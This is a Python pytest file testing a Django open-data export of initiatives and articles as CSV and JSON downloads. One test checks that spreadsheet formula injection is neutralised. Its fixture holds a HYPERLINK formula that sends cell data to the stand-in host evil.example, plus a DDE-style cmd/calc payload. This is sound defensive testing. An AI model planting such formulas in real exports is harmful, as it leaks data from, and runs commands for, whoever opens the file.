"""Exports of published initiatives and articles as CSV and JSON: the serializer's fields as the header,
attachments any site may fetch (Access-Control-Allow-Origin: *)."""

import csv
import datetime
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from flywheels.models import Concept
from opendata.serializers import ArticleSerializer, InitiativeSerializer
from places.models import Area
from tests.initiatives.factories import InitiativeFactory, SupportFactory
from tests.knowledgebase.factories import ArticleFactory
from tests.streams import body, text

pytestmark = pytest.mark.django_db

FIELDS = {"initiatieven": InitiativeSerializer.Meta.fields, "artikelen": ArticleSerializer.Meta.fields}
EXPORTS = [(what, fmt) for what in FIELDS for fmt in ("csv", "json")]


def url(what, fmt):
    return reverse("opendata:dataset_download", args=[what, fmt])


def read(client, address):
    """The response, read to its end (a streamed export runs its queries while it is read)."""
    response = client.get(address)
    body(response)
    return response


@pytest.fixture
def content():
    draagvlak = Concept.objects.get(slug="draagvlak")
    now = timezone.now()
    speeltuin = InitiativeFactory(
        slug="speeltuin",
        area=Area.objects.get(slug="wehl"),
        tags=["spelen", "groen"],
        published_at=now - datetime.timedelta(days=1),
    )
    speeltuin.concepts.add(draagvlak)
    SupportFactory.create_batch(2, initiative=speeltuin)
    InitiativeFactory(slug="moestuin", published_at=now - datetime.timedelta(days=2))
    InitiativeFactory(slug="geheim-concept", draft=True)
    InitiativeFactory(slug="geheim-verborgen", hidden=True)
    ArticleFactory(
        slug="keukentafel",
        area=Area.objects.get(slug="wehl"),
        concepts=[draagvlak],
        published_at=now - datetime.timedelta(days=1),
    )
    ArticleFactory(slug="buurtschouw", published_at=now - datetime.timedelta(days=3))
    ArticleFactory(slug="geheim-artikel", draft=True)
    ArticleFactory(slug="geheim-gepland", scheduled=True)
    ArticleFactory(slug="geheim-verborgen-artikel", hidden_at=now)


PUBLISHED = {"initiatieven": ["speeltuin", "moestuin"], "artikelen": ["keukentafel", "buurtschouw"]}


@pytest.mark.parametrize(("what", "fmt"), EXPORTS)
def test_an_export_is_an_attachment_any_site_may_fetch(client, content, what, fmt):
    response = client.get(url(what, fmt))

    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f'filename="loket-{what}-{timezone.localdate():%Y-%m-%d}.{fmt}"' in disposition
    assert response["Access-Control-Allow-Origin"] == "*"
    assert (
        response["Content-Type"] == ("text/csv" if fmt == "csv" else "application/json") + "; charset=utf-8"
    )


@pytest.mark.parametrize("what", list(FIELDS))
def test_the_csv_header_is_the_serializers_fields_then_one_row_per_published_item(client, content, what):
    rows = list(csv.reader(io.StringIO(text(client.get(url(what, "csv"))))))

    assert rows[0] == list(FIELDS[what])
    slug = rows[0].index("slug")
    assert [row[slug] for row in rows[1:]] == PUBLISHED[what]
    assert all(len(row) == len(FIELDS[what]) for row in rows)


def test_the_csv_flattens_places_and_lists_into_readable_cells(client, content):
    rows = list(csv.DictReader(io.StringIO(text(client.get(url("initiatieven", "csv"))))))

    speeltuin = rows[0]
    assert speeltuin["area"] == "Wehl"
    assert sorted(speeltuin["themes"].split("; ")) == ["groen", "spelen"]
    assert speeltuin["concepts"] == "draagvlak"
    assert speeltuin["support_count"] == "2"
    assert speeltuin["url"].endswith("/initiatieven/speeltuin/")


def test_the_csv_writes_what_a_spreadsheet_would_run_as_text(client):
    """Formula injection: a title, summary or theme starting with =, +, - or @ must not become a formula
    in the spreadsheet of whoever opens the export; the numbers stay numbers."""
    InitiativeFactory(
        slug="formule",
        title='=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        tags=["+thema"],
    )

    [row] = csv.DictReader(io.StringIO(text(client.get(url("initiatieven", "csv")))))

    assert row["title"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["themes"] == "'+thema"
    assert row["support_count"] == "0"
    # The JSON is data for programs, not for spreadsheets: it keeps the text as it is.
    [item] = json.loads(text(client.get(url("initiatieven", "json"))))
    assert item["title"].startswith("=HYPERLINK")


@pytest.mark.parametrize("what", list(FIELDS))
def test_the_json_parses_to_the_serializers_fields_for_each_published_item(client, content, what):
    data = json.loads(text(client.get(url(what, "json"))))

    assert isinstance(data, list)
    assert [item["slug"] for item in data] == PUBLISHED[what]
    for item in data:
        assert list(item) == list(FIELDS[what])


def test_the_json_keeps_structure_the_csv_flattens(client, content):
    [speeltuin, _moestuin] = json.loads(text(client.get(url("initiatieven", "json"))))

    assert speeltuin["area"] == {"slug": "wehl", "name": "Wehl", "kind": "village"}
    assert sorted(speeltuin["themes"]) == ["groen", "spelen"]
    assert speeltuin["support_count"] == 2


@pytest.mark.parametrize(
    "path", ["/open-data/gebruikers.csv", "/open-data/initiatieven.xml", "/open-data/artikelen.JSON"]
)
def test_an_export_that_does_not_exist_is_a_404(client, path):
    assert client.get(path).status_code == 404


def test_an_export_only_answers_reading_requests(client):
    assert client.post(url("initiatieven", "csv")).status_code == 405


# Measured on SQLite and PostgreSQL: the items, their themes, their concepts.
EXPORT_QUERIES_AT_MOST = 3


@pytest.mark.parametrize(("what", "fmt"), EXPORTS)
def test_an_export_costs_the_same_for_few_items_as_for_many(client, what, fmt, count_queries):
    def fill(count):
        for _ in range(count):
            initiative = InitiativeFactory(tags=["groen"])
            initiative.concepts.add(Concept.objects.get(slug="draagvlak"))
            ArticleFactory(tags=["groen"], initiative=initiative, area=initiative.area)

    fill(3)
    few = count_queries(lambda: read(client, url(what, fmt)))
    fill(30)

    assert count_queries(lambda: read(client, url(what, fmt))) == few
    assert few <= EXPORT_QUERIES_AT_MOST
